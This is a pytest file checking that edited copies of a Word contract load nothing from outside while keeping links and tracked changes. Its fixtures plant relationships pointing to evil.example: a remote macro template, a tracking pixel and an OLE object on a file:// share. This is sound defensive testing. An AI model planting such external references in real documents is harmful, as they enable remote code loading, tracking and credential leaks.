"""A copy that is handed out loads nothing from outside: attached templates, linked pictures, frames."""

from __future__ import annotations

from pathlib import Path

import pytest

from contracts.docx.annotation_proof import prove
from contracts.docx.edits import Edit, WordNotProven
from tests.contracts.docx.word_edits import comment, marks, part, replacement, write_and_prove, written_edits
from tests.knowledge.readers.made import repacked, word

SETTINGS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/_rels/document.xml.rels"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BY_BOB = "w:author='Bob' w:date='2026-01-01T00:00:00Z'"
BY_CAROL = "w:author='Carol' w:date='2026-01-02T00:00:00Z'"


def relation(number: str, kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="{number}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


@pytest.fixture
def contract(tmp_path: Path) -> Path:
    """A contract with tracked changes of two people, which loads a template and a picture, and has a link."""
    path = word(tmp_path / "contract.docx", lambda document: document.add_paragraph("The term is five years."))
    bob = f"<w:ins w:id='70' {BY_BOB}><w:r><w:t>hereby </w:t></w:r></w:ins>"
    carol = f"<w:del w:id='71' {BY_CAROL}><w:r><w:delText>never </w:delText></w:r></w:del>"
    document = part(path).replace("<w:r><w:t>The term", f"{bob}{carol}<w:r><w:t>The term")
    loaded = [
        relation("rId90", "image", "https://evil.example/pixel.png"),
        relation("rId91", "hyperlink", "https://example.org/terms"),
        relation("rId92", "oleObject", "file://evil.example/share/x.xls"),
    ]
    relations = part(path, DOCUMENT).replace("</Relationships>", "".join(loaded) + "</Relationships>")
    template = relation("rId1", "attachedTemplate", "https://evil.example/other.dotm")
    settings = f'<Relationships xmlns="{PACKAGE}">{template}</Relationships>'
    return repacked(
        path, {"word/document.xml": document.encode(), DOCUMENT: relations.encode(), SETTINGS: settings.encode()}
    )


@pytest.fixture
def edits(contract: Path) -> list[Edit]:
    return [replacement(contract, "five years", "two years"), comment(contract, "The term", "Too long.")]


def test_a_copy_loads_nothing_from_outside_and_keeps_links_and_revisions(contract: Path, edits: list[Edit]) -> None:
    written = write_and_prove(contract, edits)
    lists = part(written.path, DOCUMENT) + part(written.path, SETTINGS)
    assert "evil.example" not in lists
    assert lists.count('Target="about:blank"') == 3
    assert 'Target="https://example.org/terms"' in lists
    assert [author for _, author, _ in marks(written.path)] == ["Bob", "Carol", "Lexic", "Lexic"]
    assert "evil.example" in part(contract, SETTINGS), "the uploaded file stays as it was"


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        (SETTINGS, "about:blank", "https://evil.example/other.dotm"),
        (SETTINGS, "about:blank", "https://evil.example/third.dotm"),
        (DOCUMENT, "about:blank", "https://evil.example/pixel.png"),
        (DOCUMENT, "https://example.org/terms", "about:blank"),
        (DOCUMENT, "https://example.org/terms", "https://evil.example/terms"),
        (SETTINGS, "</Relationships>", relation("rId2", "image", "https://evil.example/2.png") + "</Relationships>"),
        (SETTINGS, "</Relationships>", relation("rId2", "comments", "c.xml", "Internal") + "</Relationships>"),
    ],
)
def test_the_proof_refuses_a_copy_that_loads_or_leads_elsewhere(
    contract: Path, edits: list[Edit], name: str, old: str, new: str
) -> None:
    written = write_and_prove(contract, edits)
    changed = part(written.path, name).replace(old, new, 1)
    repacked(written.path, {name: changed.encode()})
    with pytest.raises(WordNotProven) as refused:
        prove(contract, written.path, written_edits(edits, written.obstacles))
    assert "lists of parts" in refused.value.message or "none of comments" in refused.value.message
